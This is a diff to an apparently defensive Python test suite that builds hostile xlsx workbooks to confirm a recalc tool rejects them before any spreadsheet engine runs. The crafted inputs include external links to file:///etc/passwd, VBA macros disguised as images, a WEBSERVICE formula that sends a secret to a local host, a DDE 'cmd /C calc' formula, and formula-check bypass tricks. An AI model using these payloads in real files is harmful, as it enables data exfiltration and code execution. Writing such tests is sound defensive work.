@@ -30,6 +30,7 @@ encrypted, scanned and mislabelled PDFs and .docx files; ``--company`` with line
 
 from __future__ import annotations
 
+import contextlib
 import copy
 import functools
 import csv
@@ -143,6 +144,8 @@ class Hostile:
     mode: str = "run"
     signum: int | None = None
     delay: float = 0.02  # "signal": seconds between seeing the temporary file and sending the signal
+    #: "signal": what must be true of the entry's folder before the signal is sent (default: a new file in it)
+    ready: Callable[[Path], bool] | None = None
     #: consistency group: every entry of a group must give the same ``outcome``
     group: str | None = None
     outcome: Callable[[Run], Any] | None = None
@@ -935,7 +938,7 @@ def _(d, ctx):
 def _(d, ctx):
     book, _ = edited_base(ctx, d, lambda b: b.set_text("xl/vbaProject.bin", "Attribute VB_Name"))
     out = d / "out.xlsx"
-    return Hostile("", "", ["recalc", str(book), "-o", str(out)], expect=["book.xlsx", "vbaProject.bin", "macros"],
+    return Hostile("", "", ["recalc", str(book), "-o", str(out)], expect=["book.xlsx", "vbaProject.bin", "no content type"],
                    outputs=[out], timeout=30)
 
 
@@ -2338,6 +2341,220 @@ def _(d, ctx):
     (d / "lig.txt").write_text(text, encoding="utf-8")
     return Hostile("", "", ["draft", "lig.txt", "-o", "plan.yaml"], exit=(0,),
                    produces=["plan.yaml", "texts/", "texts/plan.txt"], as_limit=300 * 2**20, timeout=60)
+
+
+# ---- J. recalc's gate, its engines and signals (issue 48) ------------------------------------------
+
+_OD_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+_ENGINE_MARK = "ENGINE_WAS_LAUNCHED"
+
+
+def add_relationship(b: Book, rels: str, rid: str, rtype: str, target: str, external: bool = False) -> None:
+    """One relationship more in ``rels`` (the part is made if the workbook has none)."""
+    mode = ' TargetMode="External"' if external else ""
+    rel = f'<Relationship Id="{rid}" Type="{rtype}" Target="{_xml_escape(target, {chr(34): "&quot;"})}"{mode}/>'
+    if rels in b.parts:
+        b.set_text(rels, b.text(rels).replace("</Relationships>", rel + "</Relationships>"))
+    else:
+        b.set_text(rels, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+                         f'"http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>')
+
+
+def add_content_type(b: Book, part: str | None = None, ctype: str = "", extension: str | None = None) -> None:
+    """An Override for ``part`` (or a Default for ``extension``) in [Content_Types].xml."""
+    el = (f'<Default Extension="{extension}" ContentType="{ctype}"/>' if extension
+          else f'<Override PartName="/{part}" ContentType="{ctype}"/>')
+    b.set_text("[Content_Types].xml", b.text("[Content_Types].xml").replace("</Types>", el + "</Types>"))
+
+
+def engine_trap(d: Path) -> dict[str, str]:
+    """A PATH whose first ``soffice`` and ``ssconvert`` only leave a file in the entry's folder: an engine
+    launched at all leaves it behind (and the run fails on it)."""
+    bin_ = d / "bin"
+    bin_.mkdir()
+    for name in ("soffice", "ssconvert", "libreoffice"):
+        (bin_ / name).write_text(f'#!/bin/sh\n: > "{d / _ENGINE_MARK}"\nexit 1\n')
+        (bin_ / name).chmod(0o755)
+    return {"PATH": f"{bin_}{os.pathsep}{os.environ.get('PATH', '')}"}
+
+
+def _refused_before_the_engine(d: Path, ctx: Ctx, edit: Callable[[Book], Any], expect: list, engine="libreoffice") -> Hostile:
+    book, _ = edited_base(ctx, d, edit)
+    out = d / "out.xlsx"
+    return Hostile("", "", ["recalc", str(book), "-o", str(out), "--engine", engine],
+                   expect=["book.xlsx", "不交给电子表格引擎计算", *expect], outputs=[out, d / _ENGINE_MARK],
+                   env=engine_trap(d), timeout=30)
+
+
+def _linked_picture(b: Book) -> None:
+    pic = ('<xdr:oneCellAnchor><xdr:from><xdr:col>10</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row>'
+           '<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="952500" cy="952500"/><xdr:pic><xdr:nvPicPr>'
+           '<xdr:cNvPr id="9" name="Picture 9"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip xmlns:r="'
+           f'{_NS["r"]}" r:link="rIdHostile9"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr>'
+           '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/></xdr:oneCellAnchor>')
+    b.set_text("xl/drawings/drawing1.xml", b.text("xl/drawings/drawing1.xml").replace("</xdr:wsDr>", pic + "</xdr:wsDr>"))
+    add_relationship(b, "xl/drawings/_rels/drawing1.xml.rels", "rIdHostile9", _OD_REL + "image",
+                     f"http://127.0.0.1:9/{SECRET}.png", external=True)
+
+
+def _sheet_rels(b: Book, name: str = "in_cash_dividend") -> str:
+    part = b.sheet_part(b.cells_of(name)[0])
+    folder, file = part.rsplit("/", 1)
+    return f"{folder}/_rels/{file}.rels"
+
+
+#: external relationships of every kind (issue 48, item 1): (id, edit, the part named, what is said)
+_EXTERNAL = {
+    "picture": (_linked_picture, "drawing1.xml.rels", "图片 a picture"),
+    "hyperlink_file": (lambda b: add_relationship(b, _sheet_rels(b), "rIdHostile9", _OD_REL + "hyperlink",
+                                                   "file:///etc/passwd", external=True), ".xml.rels", "file:///etc/passwd"),
+    "ole_link": (lambda b: add_relationship(b, _sheet_rels(b), "rIdHostile9", _OD_REL + "oleObject",
+                                             "file:///C:/evil.xlsx", external=True), ".xml.rels", "OLE"),
+    "external_workbook": (lambda b: add_relationship(b, "xl/_rels/workbook.xml.rels", "rIdHostile9", _OD_REL + "externalLink",
+                                                      "http://127.0.0.1:9/book.xlsx", external=True),
+                          "workbook.xml.rels", "links to other workbooks"),
+    "unknown_type": (lambda b: add_relationship(b, "_rels/.rels", "rIdHostile9", "urn:hostile:anything",
+                                                 "//127.0.0.1/share/x", external=True), ".rels", "urn:hostile:anything"),
+}
+
+for _eid, (_edit, _part, _said) in _EXTERNAL.items():
+    _register(f"recalc_external_{_eid}", "formula",
+              lambda d, ctx, e=_edit, p=_part, w=_said: _refused_before_the_engine(d, ctx, e, [p, "external", w]))
+
+
+def _macros_as_an_image(b: Book) -> None:
+    """A VBA project stored as xl/media/image9.bin, reached as the workbook's macros."""
+    b.set_text("xl/media/image9.bin", "Attribute VB_Name = \"Module1\"")
+    add_content_type(b, extension="bin", ctype="application/vnd.ms-office.vbaProject")
+    add_relationship(b, "xl/_rels/workbook.xml.rels", "rIdHostile9", "http://schemas.microsoft.com/office/2006/"
+                     "relationships/vbaProject", "media/image9.bin")
+
+
+def _macros_dressed_as_png(b: Book) -> None:
+    """The same project, its content type claiming a picture: the relationship still says macros."""
+    b.set_text("xl/media/image9.png", "Attribute VB_Name = \"Module1\"")
+    add_relationship(b, "xl/_rels/workbook.xml.rels", "rIdHostile9", "http://schemas.microsoft.com/office/2006/"
+                     "relationships/vbaProject", "media/image9.png")
+    add_content_type(b, extension="png", ctype="image/png")
+
+
+def _link_under_links(b: Book) -> None:
+    """An external link part stored as xl/links/link1.xml, with the path of the workbook it reads."""
+    b.set_text("xl/links/link1.xml", f'<externalLink xmlns="{_NS["m"]}" xmlns:r="{_NS["r"]}"><externalBook r:id="rId1"/>'
+                                     "</externalLink>")
+    add_content_type(b, "xl/links/link1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
+    add_relationship(b, "xl/_rels/workbook.xml.rels", "rIdHostile9", _OD_REL + "externalLink", "links/link1.xml")
+    add_relationship(b, "xl/links/_rels/link1.xml.rels", "rId1", _OD_REL + "externalLinkPath", "book.xlsx")
+
+
+def _ole_under_objects(b: Book) -> None:
+    """An embedded OLE object stored as xl/objects/obj1.bin, reached from a sheet."""
+    b.set_text("xl/objects/obj1.bin", "\u00d0\u00cf\u0011\u00e0 not really OLE")
+    add_content_type(b, "xl/objects/obj1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
+    add_relationship(b, _sheet_rels(b), "rIdHostile9", _OD_REL + "oleObject", "../objects/obj1.bin")
+
+
+def _orphan_part(b: Book) -> None:
+    """A part of a content type nobody asked for that no relationship reaches."""
+    b.set_text("xl/media/payload.dat", "anything")
+
+
+#: parts judged by content type and relationship, not by name (issue 48, item 3)
+_PARTS = {
+    "macros_as_image_bin": (_macros_as_an_image, ["image9.bin", "macros (VBA)"]),
+    "macros_dressed_as_png": (_macros_dressed_as_png, ["workbook.xml.rels", "macros (VBA)"]),
+    "external_link_under_links": (_link_under_links, ["link1.xml", "links to other workbooks"]),
+    "ole_object_under_objects": (_ole_under_objects, ["obj1.bin", "embedded objects (OLE)"]),
+    "orphan_part": (_orphan_part, ["payload.dat", "no content type"]),
+}
+
+for _eid, (_edit, _words) in _PARTS.items():
+    _register(f"recalc_part_{_eid}", "formula",
+              lambda d, ctx, e=_edit, w=_words: _refused_before_the_engine(d, ctx, e, w, engine="gnumeric"))
+
+
+def _formula_entry(d: Path, ctx: Ctx, formula: str, words: list) -> Hostile:
+    cell: list[str] = []
+
+    def edit(b: Book) -> None:
+        sheet, refs = b.cells_of("in_cash_dividend")
+        col, row = _split_cell(refs[-1])
+        ref = f"{_col_letter(_col_index(col) + 1)}{row}"
+        b.set_formula(sheet, ref, formula)
+        cell.append(f"{sheet}!{ref}")
+    h = _refused_before_the_engine(d, ctx, edit, words)
+    h.expect.append(cell[0])
+    return h
+
+
+#: the formula check's two bypasses, as the issue gives them (item 2), and a DDE call
+_BYPASSES = {
+    "quote_in_sheet_name_hides_webservice": (f"'a\"b'!A1&WEBSERVICE(\"http://127.0.0.1:9/{SECRET}\")&'c\"d'!A1",
+                                             ["WEBSERVICE", "a function xlmodel does not write"]),
+    "path_in_quoted_sheet_name": ("'/path/[book.xlsx]S'!A1", ["another workbook", "[book.xlsx]"]),
+    "dde_call": ("cmd|' /C calc'!A0", ["DDE"]),
+    "space_before_parenthesis": ('webservice ("http://127.0.0.1:9/x")', ["a reference xlmodel does not write", "webservice"]),
+}
+
+for _eid, (_f, _words) in _BYPASSES.items():
+    _register(f"recalc_formula_{_eid}", "formula", lambda d, ctx, f=_f, w=_words: _formula_entry(d, ctx, f, w))
+
+
+#: --timeout values that are no time (item 4)
+_TIMEOUTS = {"nan": "nan", "inf": "inf", "1e400": "1e400", "minus_5": "-5", "zero": "0"}
+
+for _cmd in ("recalc", "selftest"):
+    for _tid, _t in _TIMEOUTS.items():
+        def _make_timeout(d: Path, ctx: Ctx, _cmd=_cmd, _t=_t) -> Hostile:
+            out = d / "out.xlsx"
+            args = [_cmd] + ([str(copy_base(ctx, d)), "-o", str(out)] if _cmd == "recalc" else [])
+            return Hostile("", "", args + ["--engine", "gnumeric", "--timeout", _t],
+                           expect=["--timeout", "时限", f"got '{_t}'"], outputs=[out, d / _ENGINE_MARK],
+                           env=engine_trap(d), timeout=20)
+
+        _register(f"{_cmd}_timeout_{_tid}", "resources", _make_timeout)
+
+
+def engine_processes(d: Path, key: str) -> list[int]:
+    """The processes whose command line holds ``key`` and whose folder is under ``d`` (an engine a run started)."""
+    out = []
+    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+        if not pid.isdigit():
+            continue
+        try:
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace")
+            cwd = os.readlink(f"/proc/{pid}/cwd")
+        except OSError:
+            continue
+        if key in cmd and "xlmodel" not in cmd.split("\0", 1)[0] and (cwd.startswith(str(d)) or str(d) in cmd):
+            out.append(int(pid))
+    return out
+
+
+def _no_engine_left(d: Path, key: str):
+    def check(run: Run) -> None:
+        for _ in range(50):
+            left = engine_processes(d, key)
+            if not left:
+                return
+            time.sleep(0.1)
+        for pid in left:  # (not left to run on: the test fails, the machine stays clean)
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
+        raise AssertionError(f"engine processes still running after the signal: {left}")
+    return check
+
+
+for _sig, _engine, _key in (("sigterm", "libreoffice", "--convert-to"), ("sighup", "gnumeric", "--recalc")):
+    def _make_signal(d: Path, ctx: Ctx, _sig=_sig, _engine=_engine, _key=_key) -> Hostile:
+        out = d / "out.xlsx"
+        exe = "soffice" if _engine == "libreoffice" else "ssconvert"
+        return Hostile("", "", ["recalc", str(copy_base(ctx, d)), "-o", str(out), "--engine", _engine], mode="signal",
+                       signum=getattr(signal, _sig.upper()), outputs=[out], timeout=60, delay=0.3,
+                       ready=lambda folder: bool(engine_processes(folder, _key)), check=_no_engine_left(d, _key),
+                       skip=None if shutil.which(exe) or os.environ.get("CI") else f"{exe} is not installed")
+
+    _register(f"{_sig}_recalc_{_engine}", "files", _make_signal)
 
 
 #: the groups of entries that must read one value the same way, and the outcomes allowed
